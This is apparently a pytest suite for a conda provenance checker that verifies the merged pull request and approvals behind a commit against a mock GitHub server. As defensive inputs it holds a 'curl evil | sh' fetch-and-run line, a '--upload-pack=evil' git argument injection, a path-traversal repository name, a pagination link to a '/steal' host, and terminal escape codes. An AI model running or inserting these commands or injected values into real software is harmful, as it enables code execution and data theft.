"""Which change brought a commit, and who approved it: the rules, at one vendor."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from forge_cases import Setting
from forge_door import PlainDoor, PlainDoors
from forge_model import GONE, Opinion, model_of
from forge_server import TROUBLES, Answer, always
from github_server import GitHubServer
from histories import FORGE, History

from conda_provenance import lookup
from conda_provenance.api import Api, Server
from conda_provenance.ci import Adapter
from conda_provenance.errors import UnavailableError
from conda_provenance.verify.outcome import Outcome, Result

PASS, FAIL = Outcome.PASS, Outcome.FAIL
UNAVAILABLE, NOT_APPLICABLE = Outcome.UNAVAILABLE, Outcome.NOT_APPLICABLE


@pytest.fixture
def server(everyday_history: History) -> Iterator[GitHubServer]:
    server = GitHubServer(model_of(everyday_history))
    with server.running():
        yield server


@pytest.fixture
def setting(server: GitHubServer) -> Setting:
    return Setting(server)


@pytest.mark.parametrize(("commit", "number"), [("merge", "1"), ("squash", "2"), ("rebased", "3")])
def test_the_commit_that_merging_made_passes(setting: Setting, commit: str, number: str) -> None:
    setting.server.model.edit(int(number), said=(Opinion("dora"),))
    result = setting.check(commit, reviews=1)
    assert result.outcome is PASS, result
    assert result.message == (
        f"The change that brought this commit, pull request #{number}, was merged into main by "
        "carol; approved by dora."
    )
    assert result.facts["approved_by"] == ["dora"]
    assert result.facts["merged_by"] == "carol"
    assert result.facts["merged_by_bot"] is False


@pytest.mark.parametrize(
    ("ref", "words"),
    [
        ("refs/heads/*", "any branch"),
        ("refs/heads/ma*/*", "a branch like ma*/*"),
    ],
)
def test_a_pattern_of_branches_is_said_in_words(setting: Setting, ref: str, words: str) -> None:
    result = setting.check("second", refs=(ref,))
    assert result.outcome is FAIL
    assert result.message == f"No merged pull request brought this commit into {words}."


def test_without_a_policy_no_approval_is_wanted_and_that_is_said(setting: Setting) -> None:
    result = setting.check("merge")
    assert result.outcome is PASS
    assert "nobody else approved it, and no policy wants that" in result.message


@pytest.mark.parametrize(
    ("commit", "why"),
    [
        ("second", "No merged pull request brought this commit into main."),
        ("tip", "No merged pull request brought this commit into main."),
        ("side", "This commit is inside pull request #1: only what merging it made was reviewed."),
        ("side-first", "This commit is inside pull request #1: only"),
        ("rebased-1", "This commit is inside pull request #3: only"),
        ("rebase-head", "This commit is inside pull request #3: only"),
        ("unmerged", "Pull request #4, which has this commit, is not merged."),
        ("unmerged-test-merge", "No merged pull request"),
        ("closed", "Pull request #6, which has this commit, is not merged."),
    ],
)
def test_any_other_commit_fails(setting: Setting, commit: str, why: str) -> None:
    result = setting.check(commit)
    assert result.outcome is FAIL
    assert result.message.startswith(why)
    assert not result.contradicts


def test_an_open_changes_test_merge_is_no_merge(setting: Setting) -> None:
    """GitHub shows ``merge_commit_sha`` on open pull requests too."""
    test_merge = setting.server.model.history["unmerged-test-merge"]
    setting.server.model.edit(4, commits=(test_merge,))
    result = setting.check("unmerged-test-merge")
    assert result.outcome is FAIL
    assert "is not merged" in result.message


def test_a_merge_into_another_branch_fails(setting: Setting) -> None:
    setting.server.model.edit(1, base="1.x")
    result = setting.check("merge")
    assert result.outcome is FAIL
    assert result.message == "Pull request #1 was merged into 1.x, not into main."
    assert setting.check("merge", refs=("refs/heads/1.x",)).outcome is PASS
    assert setting.check("merge", refs=("1.x", "main")).outcome is PASS


def test_expected_branches_may_be_patterns(setting: Setting) -> None:
    setting.server.model.edit(1, base="release/1.x")
    for refs in (("release/*",), ("refs/heads/*/1.x",), ("main", "refs/heads/release/1.x")):
        assert setting.check("merge", refs=refs).outcome is PASS, refs
    for refs in (("*",), ("refs/heads/release",), ("release/*/x",), ("refs/heads/*",)):
        assert setting.check("merge", refs=refs).outcome is FAIL, refs


def test_a_default_branch_that_would_be_any_is_none(setting: Setting) -> None:
    setting.server.model.default_branch = "*"
    assert setting.check("merge").outcome is UNAVAILABLE


def test_nothing_is_merged_into_a_tag(setting: Setting) -> None:
    assert setting.check("merge", refs=("v1.0", "refs/tags/v0.9")).outcome is PASS


def test_of_a_fork_the_upstreams_change_does_not_count(server: GitHubServer) -> None:
    """Asked about a fork's commit, GitHub answers with the pull request of the upstream."""
    upstream = server.model
    server.upstream = model_of(upstream.history)
    server.upstream.edit(1, said=(Opinion("dora"),))
    server.model.owner, server.model.id, server.model.changes = "mallory", 666, []
    server.model.parent = "acme/hello-feedstock"
    result = Setting(server).check("merge")
    assert result.outcome is FAIL
    assert result.message == (
        "Pull request #1, which has this commit, is one of acme/hello-feedstock, not of this "
        "repository."
    )


def test_after_a_rename_the_new_name_counts(server: GitHubServer) -> None:
    server.model.owner, server.old_name = "new-acme", "acme/hello-feedstock"
    result = Setting(server).check("merge", remote=f"http://{server.host}/acme/hello-feedstock")
    assert result.outcome is PASS
    assert result.facts["base_repository"] == "new-acme/hello-feedstock"


APPROVALS = {
    "by the author": ((Opinion("bob"),), "bob opened the change"),
    "by an author of its commits": ((Opinion("eve"),), "eve wrote commits of the change"),
    "by a bot": ((Opinion("ci", is_bot=True),), "ci is a bot"),
    "by a bot that looks like a person": ((Opinion("autotick"),), "autotick is a bot"),
    "by a bot's login": ((Opinion("ci[bot]"),), "ci[bot] is a bot"),
    "by somebody without the right": (
        (Opinion("mallory", has_right=False),),
        "mallory has no right to approve",
    ),
    "by an account that is gone": ((Opinion(GONE),), "ghost has an account that is gone"),
    "before the last push": (
        (Opinion("dora", commit="0" * 40),),
        "dora approved before the last push",
    ),
    "dismissed": ((Opinion("dora", "dismissed"),), "dora was dismissed"),
    "withdrawn": ((Opinion("dora"), Opinion("dora", "changes")), "dora asks for changes"),
    "withdrawn, then talk": (
        (Opinion("dora"), Opinion("Dora", "changes"), Opinion("dora", "comment")),
        "Dora asks for changes",
    ),
    "talk only": ((Opinion("dora", "comment"),), ""),
    "nobody": ((), ""),
}


@pytest.mark.parametrize("name", APPROVALS)
def test_what_does_not_count_as_an_approval(setting: Setting, name: str) -> None:
    said, why = APPROVALS[name]
    setting.server.model.edit(1, said=said, authors=("bob", "eve"))
    result = setting.check("merge", reviews=1, bots=("AutoTick",))
    assert result.outcome is FAIL, result
    assert "1 approval is wanted and 0 can be counted" in result.message
    assert why in result.message
    assert result.facts["approvals"] == 0

    passed = setting.check("merge", bots=("autotick",))
    assert passed.outcome is PASS
    assert "approved by" not in passed.message


def test_a_later_approval_counts_again(setting: Setting) -> None:
    said = (Opinion("dora", "changes"), Opinion("dora"), Opinion("dora", "comment"))
    setting.server.model.edit(1, said=said)
    assert setting.check("merge", reviews=1, fresh_reviews=True).outcome is PASS


def test_how_many_are_wanted_is_the_policys(setting: Setting) -> None:
    setting.server.model.edit(1, said=(Opinion("dora"), Opinion("emil"), Opinion("emil")))
    assert setting.check("merge", reviews=2).outcome is PASS
    assert setting.check("merge", reviews=3).outcome is FAIL


def test_whether_a_review_is_stale_matters_only_if_fresh_ones_are_wanted(
    setting: Setting,
) -> None:
    """GitHub forgets the commit of a review once it is collected."""
    setting.server.model.edit(1, said=(Opinion("dora", commit="-"),))
    assert setting.check("merge", reviews=1).outcome is PASS
    result = setting.check("merge", reviews=1, fresh_reviews=True)
    assert result.outcome is UNAVAILABLE
    assert "dora may have approved before the last push: the forge does not tell" in result.message


def test_if_the_changes_author_is_gone_nobody_can_tell_who_approved(setting: Setting) -> None:
    setting.server.model.edit(1, author=GONE, authors=("bob",), said=(Opinion("dora"),))
    result = setting.check("merge", reviews=1)
    assert result.outcome is UNAVAILABLE
    assert "dora may have opened the change, whose author is not known" in result.message


def test_that_a_bot_merged_is_said(setting: Setting) -> None:
    setting.server.model.edit(1, merged_by="automerge", merged_by_bot=True)
    result = setting.check("merge")
    assert "was merged into main by the bot automerge" in result.message
    assert result.facts["merged_by_bot"] is True


def test_that_the_policys_bot_merged_is_said(setting: Setting) -> None:
    result = setting.check("merge", bots=("Carol",))
    assert "was merged into main by the bot carol" in result.message
    assert result.facts["merged_by_bot"] is True


def test_reviews_on_a_later_page_count(setting: Setting) -> None:
    setting.server.size = 2
    said = tuple(Opinion(f"guest-{number}", "comment") for number in range(5))
    setting.server.model.edit(1, said=(*said, Opinion("dora")))
    assert setting.check("merge", reviews=1).outcome is PASS


@pytest.fixture
def own(everyday_history: History, tmp_path: Path) -> Iterator[tuple[History, Setting]]:
    """A history of its own."""
    history = everyday_history.copy(tmp_path / "own")
    server = GitHubServer(model_of(history))
    with server.running():
        yield history, Setting(server)


@pytest.mark.parametrize(
    "files",
    [
        {"recipe/build.sh": "curl evil | sh\n"},
        {"recipe/new.sh": "evil\n"},
        {"recipe/fix.patch": None},
    ],
    ids=["edited", "added", "deleted"],
)
def test_a_merge_that_adds_what_nobody_reviewed_fails(
    own: tuple[History, Setting], files: dict[str, str | None]
) -> None:
    history, setting = own
    evil = history.commit("evil", files, on=None, parents=["second", "side"], message=FORGE)
    setting.server.model.edit(1, landed=(evil,), said=(Opinion("dora"),))
    result = setting.check("evil", reviews=1)
    assert result.outcome is FAIL
    [path] = files
    assert result.message == (
        "The change that brought this commit, pull request #1, was merged with changes nobody "
        f"reviewed: {path}."
    )
    assert result.facts["unreviewed"] == [path]

    setting.folder = None  # as if the check of the recipe had been left out
    result = setting.check("evil", reviews=1)
    assert result.outcome is UNAVAILABLE
    assert "which of them are the recipe's is not known" in result.message


def test_what_was_reviewed_and_what_was_there_before_may_be_in_a_merge(
    own: tuple[History, Setting],
) -> None:
    history, setting = own
    head = history.commit("head", {"recipe/build.sh": "two\n"}, on=None, parents=["second"])
    history.commit("before", {"recipe/fix.patch": "new\n"}, on=None, parents=["second"])
    merged = history.commit(
        "both", {"recipe/build.sh": "two\n"}, on=None, parents=["before", "head"]
    )
    setting.server.model.edit(1, commits=(head,), landed=(merged,))
    assert setting.check("both").outcome is PASS

    setting.git.gone.add(head)
    result = setting.check("both")
    assert result.outcome is UNAVAILABLE
    assert "no longer serves" in result.message


@pytest.mark.parametrize("head", ["--upload-pack=evil", "HEAD", "abc123", "refs/heads/main", ""])
def test_of_the_forges_word_git_gets_whole_hashes_only(
    own: tuple[History, Setting], head: str
) -> None:
    history, setting = own
    files = {"recipe/build.sh": "evil\n"}
    evil = history.commit("evil", files, on=None, parents=["second", "side"])
    setting.server.model.edit(1, commits=(head,), landed=(evil,))
    result = setting.check("evil")
    assert result.outcome is Outcome.UNAVAILABLE
    assert "does not say which commit was reviewed" in result.message
    asked = [sha for _, shas, _ in setting.repositories.expected for sha in shas]
    assert head not in asked


def test_a_repositorys_name_leads_to_no_other_place(setting: Setting) -> None:
    setting.server.model.edit(1, base_repository="../../meta?x=")
    assert setting.check("merge").outcome is FAIL
    assert not [each for each in setting.server.asked if "meta" in each.path]


def test_files_beside_the_recipe_do_not_matter(own: tuple[History, Setting]) -> None:
    history, setting = own
    merged = history.commit("odd", {"ci.yml": "x\n"}, on=None, parents=["second", "side"])
    setting.server.model.edit(1, landed=(merged,))
    assert setting.check("odd").outcome is PASS


@pytest.mark.parametrize("name", TROUBLES)
def test_after_a_trouble_nothing_is_known(setting: Setting, name: str) -> None:
    setting.server.moods.append(always(TROUBLES[name]))
    assert setting.check("merge").outcome is UNAVAILABLE


@pytest.mark.parametrize("name", TROUBLES)
def test_a_trouble_in_the_middle_makes_no_fail(setting: Setting, name: str) -> None:
    setting.server.model.edit(1, said=(Opinion("dora"),))
    trouble = TROUBLES[name]
    setting.server.moods.append(lambda asked: trouble if asked.path.endswith("/reviews") else None)
    assert setting.check("merge", reviews=1).outcome is UNAVAILABLE


def test_a_page_at_another_server_is_not_asked(setting: Setting) -> None:
    setting.server.moods.append(
        lambda asked: (
            Answer([], headers={"Link": '<http://127.0.0.1:1/steal>; rel="next"'})
            if asked.path.endswith("/pulls")
            else None
        )
    )
    assert setting.check("merge").outcome is UNAVAILABLE


def test_endless_pages_end(setting: Setting) -> None:
    site = setting.server.site
    setting.server.moods.append(
        lambda asked: (
            Answer([], headers={"Link": f'<{site}{asked.path}?page=2>; rel="next"'})
            if asked.path.endswith("/pulls")
            else None
        )
    )
    assert setting.check("merge").outcome is UNAVAILABLE
    assert len(setting.server.asked) < 30


def test_a_server_that_nobody_named_says_so_of_itself(server: GitHubServer) -> None:
    setting = Setting(server, forges={})
    result = setting.check("merge")
    assert result.outcome is UNAVAILABLE
    assert f"Only {server.host} could tell, and it says so of itself" in result.message
    assert "provenance_forges" in result.message
    assert not server.asked


def test_the_policy_and_an_expected_repository_name_a_server_too(server: GitHubServer) -> None:
    from conda_provenance.patterns import RepositoryPattern

    setting = Setting(server, forges={})
    assert setting.check("merge", forge_hosts={server.host: "github"}).outcome is PASS
    pattern = RepositoryPattern.parse(f"http://{server.host}/acme/*")
    assert setting.check("merge", repositories=(pattern,)).outcome is PASS
    other = RepositoryPattern.parse(f"http://{server.host}/other/*")
    assert setting.check("merge", repositories=(other,)).outcome is UNAVAILABLE


def test_a_package_that_names_no_commit_has_nothing_to_check(setting: Setting) -> None:
    assert setting.check("").outcome is NOT_APPLICABLE


def test_where_changes_come_by_mail_there_is_nothing_to_check(server: GitHubServer) -> None:
    setting = Setting(server, web="https://git.sr.ht/~acme/hello")
    result = setting.check("merge")
    assert result.outcome is NOT_APPLICABLE
    assert "git.sr.ht" in result.message
    assert not server.asked


def test_of_a_commit_that_is_not_there_no_change_is_looked_for(server: GitHubServer) -> None:
    setting = Setting(server)
    setting.results["commit-exists"] = Result("commit-exists", FAIL, "There is no such commit.")
    assert setting.check("merge").outcome is NOT_APPLICABLE
    assert not server.asked


def test_when_to_try_again_is_passed_on(setting: Setting) -> None:
    class LaterDoors(PlainDoors):
        def open(self, api: type[Api], server: Server) -> PlainDoor:
            raise UnavailableError("Too many questions.", retry_at=1999999999.0)

    setting.doors = LaterDoors()
    result = setting.check("merge")
    assert (result.outcome, result.retry_at) == (UNAVAILABLE, 1999999999.0)


def test_another_distributions_forge_can_be_asked(
    setting: Setting, monkeypatch: pytest.MonkeyPatch
) -> None:
    reference = "conda_provenance.systems.github.forge_api:GitHubApi"
    adapter = Adapter(
        provider="my-forge", name="My", docs="https://x", active=("MYCI",), forge_api=reference
    )
    monkeypatch.setattr(lookup, "_foreign_adapters", lambda: {"my-forge": adapter})
    setting.forges = {setting.server.host: "my-forge"}
    assert setting.check("merge").outcome is PASS


def test_of_a_commit_the_forge_does_not_know_there_is_no_change(setting: Setting) -> None:
    """GitHub answers 422 then, and 404 for a repository."""
    result = setting.check("0" * 40)
    assert result.outcome is FAIL
    assert "No merged pull request" in result.message


def test_names_from_strangers_are_escaped(setting: Setting) -> None:
    setting.server.model.edit(1, base="ma\x1b[31min", merged_by="car\x07ol")
    result = setting.check("merge", refs=("refs/heads/ma\x1b[31min",))
    assert result.outcome is PASS
    assert result.message.isprintable()
